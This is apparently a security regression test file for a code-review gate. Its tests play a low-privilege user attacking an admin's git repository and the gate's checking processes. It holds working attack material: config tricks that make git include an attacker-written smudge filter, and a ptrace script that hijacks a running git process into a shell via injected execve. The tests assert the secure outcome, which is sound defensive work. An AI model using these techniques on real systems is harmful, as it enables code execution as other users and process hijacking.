"""The review gate, attacked a fifth time: gate.py as 04a0019 left it (answered in a
child forked from root that became the user and executes nothing; git's layout and
config read by its own parser, parse_config) and RefCheck's child and grandchild.

Same cast as test_review_attacks: dave (minipipe-admin) keeps /srv/git/app, with main
checked out, and reviews; alice (group minipipe) submits and may only read it. Every
test asserts the SECURE outcome: the ones marked FOUND failed against 04a0019 (that
was the finding) and pass since parse_config reads config character by character
(and says "cannot tell" where unsure), landing vets what the lander's own git reads
where it lands (RunWorkspace.vetting), the gate walks a named linked worktree's main
work tree, and a check's git dies with its check; the ones marked HELD passed then.
"""

# ruff: noqa: F811  (the gate fixture, imported)
from __future__ import annotations

import time

import pytest

from tests.integration.conftest import wait_for

from .conftest import Box
from .test_review_attacks import (  # noqa: F401  (gate is a fixture)
    DROP,
    gate,
    plan,
    refused_by_the_gate,
    review_then_approve,
    submit_past_the_gate,
)
from .test_review_attacks4 import refused_or_smudged_as_alice_only
from .test_review_system import REPO

TEAM = "/srv/team"        # alice's directory (a team's shared config, her own)
TEAM_CONFIG = f"{TEAM}/app.gitconfig"
CONFIG = f"{REPO}/.git/config"

# ---------------------------------------------------------------- parse_config vs git 2.39

# Appends one piece of config to dave's repository config (run as dave), written as
# bytes: each is config git 2.39 reads, with an include of TEAM_CONFIG that
# parse_config does not see. `git config --show-origin --get` as dave names the
# team file for every one of them (checked in the test).
APPEND_GAP = r'''
import sys
team = sys.argv[2].encode()
include = b"\tpath = " + team + b"\n"
gaps = {
    # git: any space (tab, CR) between a section's name and its quoted subsection;
    # parse_config: a space only (header.partition(" ")), so the section reads
    # `includeif\t"onbranch:main"` and its path is no include.
    "a tab before the subsection": b'[includeIf\t"onbranch:main"]\n' + include,
    "a CR before the subsection": b'[includeIf\r"onbranch:main"]\n' + include,
    # git: after `]` a line may open another section; parse_config takes the rest of
    # the line for a key (`core.[include] path`).
    "two section headers on one line": b"[core] [include] path = " + team + b"\n",
    # git: a comment ends the value and the line; a backslash in it continues
    # nothing. parse_config continues the raw value over the next line (it checks
    # for a trailing backslash before it strips the comment), so `[include]` is
    # swallowed and the path lands in section core.
    "a trailing comment ending in a backslash": (
        b"[core]\n\tlogAllRefUpdates = true  # reflogs are backed up to N:\\git\\\n"
        b"[include]\n" + include),
    # git skips a UTF-8 byte order mark (Windows editors write one); parse_config
    # keeps it, and the first header is no header.
    "a byte order mark": None,
    # gate._read reads the first MiB of a file, git all of it: an include after the
    # first MiB (a config with many branches' upstreams) is never looked at.
    "an include after the first MiB": (
        b"".join(b'[branch "topic-%05d"]\n\tremote = origin\n\tmerge = refs/heads/topic-%05d\n'
                 % (n, n) for n in range(16000)) + b"[include]\n" + include),
}
path, gap = sys.argv[1], sys.argv[3]
with open(path, "rb") as handle:
    old = handle.read()
if gaps[gap] is None:
    new = b"\xef\xbb\xbf[include]\n" + include + old
else:
    new = old + gaps[gap]
with open(path, "wb") as handle:
    handle.write(new)
'''

PARSER_GAPS = ("a tab before the subsection", "a CR before the subsection",
               "two section headers on one line", "a trailing comment ending in a backslash",
               "a byte order mark", "an include after the first MiB")

# What alice's team file says: a smudge filter for the `lfs` driver dave's repository
# names in its (tracked, reviewed long ago) .gitattributes.
SMUDGE = f'[filter "lfs"]\n\tsmudge = "id -un >> {DROP}/smudge-ran; cat"\n'


def add_gap(box: Box, gap: str) -> None:
    box.sh(f"install -d -o alice -m 755 {TEAM}")
    box.c.write(TEAM_CONFIG, SMUDGE)
    box.sh(f"chown alice {TEAM_CONFIG}")
    box.c.write("/srv/append_gap.py", APPEND_GAP)
    box.sh(f"python3 /srv/append_gap.py {CONFIG} {TEAM_CONFIG} '{gap}'", user="dave")
    # dave's own git (as it lands: his repository only) reads alice's file.
    origin = box.sh(f"git -c safe.directory= -C {REPO} config --show-origin --get "
                    "filter.lfs.smudge", user="dave").stdout
    assert TEAM_CONFIG in origin, origin


@pytest.mark.parametrize("gap", PARSER_GAPS)
def test_the_enforced_gate_reads_dave_s_config_as_git_does(gate: Box, gap: str) -> None:
    """FOUND (high where it applies: see the landing test below; each needs dave's
    config to be written that way, from plausible (a comment ending in `\\`, a tab,
    a BOM, a big config) to contrived (two headers on a line, a CR)). dave's config
    includes a team file alice writes, in a way git 2.39 reads and parse_config
    does not: the enforced gate answers "none" and takes her run."""
    box = gate
    add_gap(box, gap)
    try:
        result = submit_past_the_gate(box)
        refused_by_the_gate(result, gap)
    finally:
        box.sh(f"rm -rf {TEAM} /srv/append_gap.py", check=False)


@pytest.mark.parametrize("gap", ["a trailing comment ending in a backslash",
                                 "a tab before the subsection"])
def test_a_config_line_the_gate_misreads_runs_alices_code_as_the_lander(
        gate: Box, gap: str) -> None:
    """FOUND (high). As in the fourth round's landing test, through a parser gap:
    dave's repository tracks `*.dat filter=lfs` (no lfs configured), its config
    includes the team file alice writes (written as above), the enforced gate takes
    her run; her file defines `filter.lfs.smudge`; her reviewed change (`data.dat`
    gets a line) lands with `git merge --ff-only` in dave's checked-out work tree,
    which smudges data.dat through her command, as dave."""
    box = gate
    box.sh(f"cd {REPO} && printf '*.dat filter=lfs diff=lfs merge=lfs -text\\n' > "
           ".gitattributes && echo one > data.dat && git add . && "
           "git -c user.name=d -c user.email=d@x commit -qm 'data, lfs attributes'",
           user="dave")
    add_gap(box, gap)
    try:
        result = box.minipipe("submit -", input=plan("echo two >> data.dat"), check=False)
        refused_or_smudged_as_alice_only(box, result)
    finally:
        box.sh(f"rm -rf {TEAM} /srv/append_gap.py", check=False)


# ---------------------------------------------------------------- programs config names

TOOLS = "/srv/tools"  # root's, 755: the team's tools, each file its author's


def test_a_filter_command_that_runs_alices_file_is_seen(gate: Box) -> None:
    """FOUND (medium where it applies). named_paths() takes the words of a program
    value that start with / or ~: a command line that reaches alice's file otherwise
    (`cd /srv/tools && ./fmt`, a relative path after cd; `sh \\/srv/...`) is never
    looked at. /srv/tools is root's; the fmt script in it is alice's (she wrote the
    team's formatter). dave's repository runs it as a clean filter: the enforced
    gate takes her run, though she may rewrite the program dave's git runs."""
    box = gate
    box.sh(f"install -d -m 755 {TOOLS} && printf '#!/bin/sh\\ncat\\n' > {TOOLS}/fmt && "
           f"chmod 755 {TOOLS}/fmt && chown alice {TOOLS}/fmt")
    box.sh(f"git -C {REPO} config filter.fmt.clean 'cd {TOOLS} && ./fmt'", user="dave")
    try:
        result = submit_past_the_gate(box)
        refused_by_the_gate(result)
    finally:
        box.sh(f"rm -rf {TOOLS}", check=False)


# ---------------------------------------------------------------- layout(): work trees

# (scratch/ holds a tracked file: git reads and writes only in the directories tracked
# paths go through, and only those count since an ignored team build/ stopped refusing.)
TRACK_SCRATCH = (f"cd {REPO} && mkdir -p scratch && touch scratch/.keep && "
                 "git add scratch && git -c user.name=d -c user.email=d@x commit -qm scratch")
WORK_TREE_GAPS = {
    # alice names dave's linked worktree as the repository: layout() takes it for the
    # main work tree and lists only the linked ones from worktrees/*/gitdir, so the
    # repository's main work tree (/srv/git/app, where main is checked out and
    # landing runs `merge --ff-only`) is never walked. Its scratch directory is 1777.
    "a linked worktree named as the repository": (
        f"{TRACK_SCRATCH} && git worktree add -q /srv/git/app-release -b release && "
        f"chmod 1777 {REPO}/scratch",
        "/srv/git/app-release"),
    # core.worktree in the main worktree's config.worktree (extensions.worktreeConfig,
    # as `git sparse-checkout` and `git worktree` users set): git 2.39 takes it, layout()
    # reads core.worktree from `config` only and walks /srv/git/app instead.
    "core.worktree in config.worktree": (
        f"{TRACK_SCRATCH} && "
        f"mkdir -p /srv/git/app-tree/scratch && chmod 1777 /srv/git/app-tree/scratch && "
        f"cd {REPO} && git config extensions.worktreeConfig true && "
        "git config --worktree core.worktree /srv/git/app-tree", REPO),
}


@pytest.mark.parametrize("gap", sorted(WORK_TREE_GAPS))
def test_the_enforced_gate_walks_the_work_tree_landing_updates(gate: Box, gap: str) -> None:
    """FOUND (low-medium: a directory alice may write in the work tree where
    landing checks out the target: .gitattributes git reads there select filters
    and drivers for dave's checkout; what git writes there she may swap). The gate
    misses a work tree git uses, and takes her run."""
    box = gate
    as_dave, repo = WORK_TREE_GAPS[gap]
    box.sh(as_dave, user="dave")
    try:
        result = submit_past_the_gate(box, repo=repo)
        refused_by_the_gate(result, gap)
    finally:
        box.sh("rm -rf /srv/git/app-release /srv/git/app-tree", check=False)


# ---------------------------------------------------------------- RefCheck's children

# alice, at her shell: her ~/.gitconfig includes a FIFO nobody writes, so every git of
# hers blocks reading its config. Her watcher finds the submit check's `git
# rev-parse` (a grandchild of the daemon, running as her) and acts on its parent,
# the gate child (also hers: she may signal it and set its limits, not ptrace it).
WATCH = r"""
action=$1
while true; do
  for g in $(pgrep -u alice -f -- 'rev-parse --verify'); do
    p=$(awk '/^PPid/ {print $2}' /proc/$g/status 2>/dev/null)
    [ -n "$p" ] && [ "$p" != 1 ] || continue
    grep -q "$g" /srv/drop/acted 2>/dev/null && continue
    case $action in
      stop) kill -STOP "$p" ;;
      limit) prlimit --pid "$p" --nofile=3:3 && : > /home/alice/block ;;
      exec) python3 /srv/inject.py "$g" 'cat /proc/self/cgroup > /srv/drop/injected;
              setsid sleep 1000 </dev/null >/dev/null 2>&1 &' ;;
    esac
    echo "$g $p" >> /srv/drop/acted
  done
  sleep 0.05
done
"""


# alice's ptrace of her own git (no tool needed but python3): attach, write an argv
# below its stack pointer through /proc/PID/mem, point it at a `syscall` instruction
# of its own code with execve's number, detach. git becomes `sh -c CMD`.
INJECT = r"""
import ctypes, os, sys
pid, command = int(sys.argv[1]), sys.argv[2].encode()
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
NAMES = ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs "
         "eflags rsp ss fs_base gs_base ds es fs gs").split()
class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in NAMES]
if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
    sys.exit(f"attach: errno {ctypes.get_errno()}")
os.waitpid(pid, 0x40000000)  # __WALL
regs = Regs()
libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
mem = open(f"/proc/{pid}/mem", "r+b", buffering=0)
gadget = None
for line in open(f"/proc/{pid}/maps"):
    span, perms = line.split()[:2]
    if "x" in perms and gadget is None:
        start, end = (int(x, 16) for x in span.split("-"))
        mem.seek(start)
        at = mem.read(end - start).find(b"\x0f\x05")
        gadget = start + at if at >= 0 else None
base = (regs.rsp - 4096) & ~0xF
strings = [b"/bin/sh\0", b"-c\0", command + b"\0"]
table = base + 8 * 4
pointers, blob, at = [], b"", table
for text in strings:
    pointers.append(at)
    blob += text
    at += len(text)
mem.seek(base)
mem.write(b"".join(p.to_bytes(8, "little") for p in pointers) + bytes(8) + blob)
regs.rax, regs.rdi, regs.rsi, regs.rdx = 59, pointers[0], base, 0  # execve
regs.rip, regs.orig_rax = gadget, 2**64 - 1  # no syscall restart
libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
"""


def start_watch(box: Box, action: str) -> None:
    box.c.write("/srv/inject.py", INJECT, "0644")
    box.c.write("/srv/watch.sh", WATCH, "0755")
    box.sh("rm -f /home/alice/block && mkfifo -m 600 /home/alice/block && "
           "printf '[include]\\n\\tpath = ~/block\\n' > /home/alice/.gitconfig", user="alice")
    box.sh(f"setsid sh /srv/watch.sh {action} >/dev/null 2>&1 < /dev/null &", user="alice")


def test_a_ptraced_submit_check_leaves_nothing_of_alices_in_the_service(gate: Box) -> None:
    """FOUND (medium: the service's TasksMax for anyone's runs and checks). The
    submit check's `git rev-parse` runs as alice: hers to ptrace. While it waits on
    her FIFO, her watcher turns it into `sh -c 'setsid sleep 1000 &'` (execve
    injected). The sleep was never the check's child: nothing killed it, and it
    stayed in minipipe.service's own cgroup, where she could fork up to the
    service's TasksMax. Now the check runs in a scope of its own
    (minipipe-check-<pid>.scope, TasksMax 64, a runtime limit) that the daemon
    stops when the check ends: the sleep is never in the service, and goes."""
    box = gate
    start_watch(box, "exec")
    try:
        result = box.minipipe("submit -", input=plan("printf 'v2\\n' > VERSION"), check=False)
        assert result.returncode != 0, f"took run {result.stdout.strip()}"
        acted = box.sh(f"cat {DROP}/acted", check=False).stdout
        assert acted, "the watcher never found the check's git"
        wait_for(lambda: box.sh(f"cat {DROP}/injected", check=False).stdout, 10,
                 "the injected shell")
        in_service = service_processes_of(box, "alice")
        cgroup = box.sh(f"cat {DROP}/injected").stdout
        wait_for(lambda: not box.sh("pgrep -u alice -x sleep", check=False).stdout, 10,
                 "alice's sleep to go with the check's scope")
    finally:
        stop_watch(box)
        box.sh("pkill -u alice -x sleep", check=False)
    assert not in_service, f"alice's processes in minipipe.service: {in_service}"
    assert "/minipipe.slice/minipipe-check-" in cgroup, cgroup


def stop_watch(box: Box) -> None:
    pids = box.sh("pgrep -u alice -f /srv/watch.sh", check=False).stdout.split()
    if pids:
        box.sh(f"kill {' '.join(pids)}", check=False)
    gits = box.sh("pgrep -u alice -f -- 'rev-parse --verify'", check=False).stdout.split()
    if gits:
        box.sh(f"kill -9 {' '.join(gits)}", check=False)
    box.sh("rm -f /srv/watch.sh /home/alice/block /home/alice/.gitconfig", check=False)


def service_processes_of(box: Box, user: str) -> list[str]:
    """`user pid command` of the user's processes in minipipe.service's own cgroup."""
    found = []
    for pid in box.sh(f"pgrep -u {user}", check=False).stdout.split():
        cgroup = box.sh(f"cat /proc/{pid}/cgroup", check=False).stdout
        if "/minipipe.service" in cgroup:
            found.append(box.sh(f"ps -o user=,pid=,args= -p {pid}",
                                check=False).stdout.strip())
    return found


def test_a_hung_submit_check_leaves_nothing_of_alices_in_the_service(gate: Box) -> None:
    """FOUND (medium). alice's ~/.gitconfig includes a FIFO: the submit check's
    `git rev-parse` (run as her by the gate child) blocks on it; she stops the gate
    child (SIGSTOP: it runs as her). At the deadline the daemon kills the child
    (HELD: the submit is refused, the daemon serves carol meanwhile), but never the
    grandchild: alice's git stays, reparented, in minipipe.service's own cgroup, out
    of every run's scope and accounting, for as long as the service runs. Each
    submit leaves one more (two at a time, every 10 s); each is hers to ptrace,
    so she may fork from inside the service's cgroup up to its TasksMax, and then
    the daemon forks no runner and no check for anyone."""
    box = gate
    start_watch(box, "stop")
    try:
        result = box.minipipe("submit -", input=plan("printf 'v2\\n' > VERSION"),
                              check=False)
        assert result.returncode != 0, f"took run {result.stdout.strip()}"
        assert "did not answer" in result.stderr, result.stderr
        # carol is served meanwhile (her git does not block)
        ok = box.minipipe("submit -", user="carol", input=plan("true"), check=False)
        assert ok.returncode == 0, ok.stderr
        box.minipipe(f"cancel {int(ok.stdout)}", user="carol", check=False)
        time.sleep(1)  # the daemon has killed the gate child at the deadline
        left = service_processes_of(box, "alice")
    finally:
        stop_watch(box)
    assert not left, f"alice's processes left in minipipe.service: {left}"


def test_limits_alice_sets_on_the_gate_child_fail_closed(gate: Box) -> None:
    """HELD. alice may set the gate child's resource limits (prlimit needs only
    matching uids and gids, not dumpability): her watcher gives it RLIMIT_NOFILE 3
    while its git waits on her FIFO, then lets git go. The gate then cannot open
    a file: "cannot tell", never "none"."""
    box = gate
    start_watch(box, "limit")
    try:
        result = submit_past_the_gate(box)
        acted = box.sh(f"cat {DROP}/acted", check=False).stdout
        assert acted, "the watcher never found the check's git"
        assert result.returncode != 0 and ("cannot tell" in result.stderr
                                           or "did not answer" in result.stderr), (
            f"the enforced gate took run {result.stdout.strip()}")
    finally:
        stop_watch(box)
